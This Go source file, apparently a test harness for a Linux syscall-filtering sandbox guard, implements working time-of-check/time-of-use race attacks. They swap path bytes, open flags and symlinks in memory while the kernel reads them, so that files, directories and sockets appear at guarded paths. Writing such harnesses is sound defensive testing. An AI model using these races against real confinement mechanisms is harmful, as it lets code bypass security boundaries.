//go:build linux

package attacker

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attackTimed races the guard and uses knowledge of how it inspects calls. The second thread changes the call at one moment
// after it began: late at first, and earlier each time. A change that comes too late causes no refusal. It stops at the first
// success, and removes the files that its other tries created.
func attackTimed(args []string) {
	kind, target := args[0], args[1]
	race := timedRaces[kind](target)
	var round, done, delay, begin atomic.Int64
	go func() {
		runtime.LockOSThread()
		for n := int64(1); ; n++ {
			for round.Load() < n {
			}
			for time.Now().UnixNano()-begin.Load() < delay.Load() {
			}
			race.strike()
			done.Store(n)
		}
	}()
	runtime.LockOSThread()
	n := int64(0)
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
		for d := 300 * time.Microsecond; d >= 0 && time.Now().Before(end); d -= time.Microsecond {
			n++
			race.reset()
			delay.Store(int64(d))
			begin.Store(time.Now().UnixNano())
			round.Store(n)
			race.call()
			for done.Load() < n {
				runtime.Gosched()
			}
			if _, err := os.Lstat(target); err == nil {
				fmt.Printf("raced %s with %s after %s in round %d\n", target, kind, d, n)
				return
			}
		}
	}
	fmt.Println("held", kind, "in", n, "rounds")
}

// timedRace is a call whose meaning another thread changes.
type timedRace struct{ reset, call, strike func() }

var timedRaces = map[string]func(target string) timedRace{
	"path": func(target string) timedRace {
		harmless := strings.Repeat("z", len(target))
		name := append([]byte(harmless), 0)
		return timedRace{
			reset: func() {
				_ = unix.Unlink(harmless)
				copy(name, harmless)
			},
			call:   func() { openRaw(&name[0]) },
			strike: func() { copy(name, target) },
		}
	},
	"flags": func(target string) timedRace {
		name := append([]byte(target), 0)
		how := unix.OpenHow{}
		return timedRace{
			reset: func() { how = unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC} },
			call: func() {
				fd, _, errno := unix.Syscall6(unix.SYS_OPENAT2, ^uintptr(99), uintptr(unsafe.Pointer(&name[0])),
					uintptr(unsafe.Pointer(&how)), unsafe.Sizeof(how), 0, 0)
				if errno == 0 {
					_ = unix.Close(int(fd))
				}
			},
			strike: func() {
				how.Mode = 0o755
				how.Flags = unix.O_WRONLY | unix.O_CREAT | unix.O_CLOEXEC
			},
		}
	},
	// The kernel walks a long path before the link, which changes meanwhile.
	"link": func(target string) timedRace {
		_ = os.Mkdir("s", 0o755)
		_ = os.Symlink("s", "l")
		_ = os.Symlink(".", "m")
		path := strings.Repeat("s/../", 780) + "l/" + target
		name := append([]byte(path), 0)
		swapped := false
		exchange := func() {
			if unix.Renameat2(unix.AT_FDCWD, "l", unix.AT_FDCWD, "m", unix.RENAME_EXCHANGE) == nil {
				swapped = !swapped
			}
		}
		return timedRace{
			reset: func() {
				if swapped {
					exchange()
				}
				_ = unix.Unlink("s/" + target)
			},
			call:   func() { openRaw(&name[0]) },
			strike: exchange,
		}
	},
}

// unixAddress is the address of a Unix socket with a path (unix(7)).
func unixAddress(path string) []byte {
	return append(append([]byte{unix.AF_UNIX, 0}, path...), 0)
}

// bindRaw binds a new socket to an address, which may change up to the moment when the kernel copies it.
func bindRaw(address []byte) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	_, _, _ = unix.Syscall(unix.SYS_BIND, uintptr(fd), uintptr(unsafe.Pointer(&address[0])), uintptr(len(address)))
}

func openRaw(name *byte) {
	fd, _, errno := unix.Syscall6(unix.SYS_OPENAT, ^uintptr(99), uintptr(unsafe.Pointer(name)),
		unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o755, 0, 0)
	if errno == 0 {
		_ = unix.Close(int(fd))
	}
}

// attackMoves creates a directory below one that is moved meanwhile, so that the result is at a guarded path: args[0]/args[1].
func attackMoves(args []string) {
	parent, child := args[0], args[1]
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
		_ = os.Mkdir("from", 0o755)
		done := make(chan struct{})
		go func() {
			defer close(done)
			_ = unix.Mkdir("from/"+child, 0o755)
		}()
		_ = unix.Rename("from", parent)
		<-done
		if _, err := os.Lstat(parent + "/" + child); err == nil {
			fmt.Println("raced", parent+"/"+child)
			return
		}
		_ = unix.Rmdir(parent)
		_ = os.RemoveAll("from")
	}
}

// attackFlips creates entries with the calls in args[2:], or with every call, under a name that other threads keep replacing
// by a guarded one of the same length. args[0] is the harmless name, args[1] the guarded one. It reports everything that
// appears at the guarded name.
func attackFlips(args []string) {
	harmless, target := args[0], args[1]
	address := unixAddress(harmless)
	stop := startFlips(address[2:], target, harmless, max(2, runtime.NumCPU()))
	makeRaced(args[2:], address, harmless, target)
	stop()
}

// startFlips starts threads that replace a name, which system calls read meanwhile, by guarded and by harmless in turn. All
// three have the same length. stop ends the threads and waits for them.
func startFlips(name []byte, guarded, harmless string, threads int) (stop func()) {
	var flips sync.WaitGroup
	var stopped atomic.Bool
	for range threads {
		flips.Go(func() {
			for !stopped.Load() {
				copy(name, guarded)
				copy(name, harmless)
			}
		})
	}
	return func() {
		stopped.Store(true)
		flips.Wait()
	}
}

// attackSwings creates entries with the calls in args[1:], or with every call, below a link that other threads keep
// exchanging. Its target is the directory of args[0], where the name is guarded, or another directory, where it is not.
func attackSwings(args []string) {
	target := args[0]
	dir, last := filepath.Split(target)
	_, _ = os.Mkdir("harmless", 0o755), os.Symlink("harmless", "swing")
	_ = os.Symlink(filepath.Clean(dir), "other")
	var swings sync.WaitGroup
	var stop atomic.Bool
	swings.Go(func() {
		for !stop.Load() {
			_ = unix.Renameat2(unix.AT_FDCWD, "swing", unix.AT_FDCWD, "other", unix.RENAME_EXCHANGE)
		}
	})
	makeRaced(args[1:], unixAddress("swing/"+last), "harmless/"+last, target)
	stop.Store(true)
	swings.Wait()
}

// entryMaker is a call that creates an entry.
type entryMaker struct {
	name string
	call func()
}

// makeRaced creates entries at the path in memory, which means harmless or target. It removes harmless, and ends when target
// exists.
func makeRaced(only []string, address []byte, harmless, target string) {
	name := address[2:]
	_ = os.WriteFile("flips-source", nil, 0o644)
	at := uintptr(unix.AT_FDCWD & (1<<64 - 1))
	source := append([]byte("flips-source"), 0)
	path, from := uintptr(unsafe.Pointer(&name[0])), uintptr(unsafe.Pointer(&source[0]))
	calls := []entryMaker{
		{"open", func() { openRaw(&name[0]) }},
		{"mkdir", func() { _, _, _ = unix.Syscall(unix.SYS_MKDIRAT, at, path, 0o755) }},
		{"mknod", func() { _, _, _ = unix.Syscall6(unix.SYS_MKNODAT, at, path, unix.S_IFIFO|0o644, 0, 0, 0) }},
		{"symlink", func() { _, _, _ = unix.Syscall(unix.SYS_SYMLINKAT, from, at, path) }},
		{"link", func() { _, _, _ = unix.Syscall6(unix.SYS_LINKAT, at, from, at, path, 0, 0) }},
		{"rename", func() {
			_ = os.WriteFile("flips-source", nil, 0o644)
			_, _, _ = unix.Syscall6(unix.SYS_RENAMEAT2, at, from, at, path, 0, 0)
			_ = os.WriteFile("flips-source", nil, 0o644)
		}},
		{"bind", func() { bindRaw(address) }},
	}
	if len(only) > 0 {
		calls = slices.DeleteFunc(calls, func(c entryMaker) bool { return !slices.Contains(only, c.name) })
	}
	tries := 0
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); tries++ {
		c := calls[tries%len(calls)]
		c.call()
		if _, err := os.Lstat(target); err == nil {
			fmt.Println("raced", target, "by", c.name, "in try", tries)
			break
		}
		_ = os.Remove(harmless)
	}
	runtime.KeepAlive(source)
	fmt.Println(tries, "tries")
}
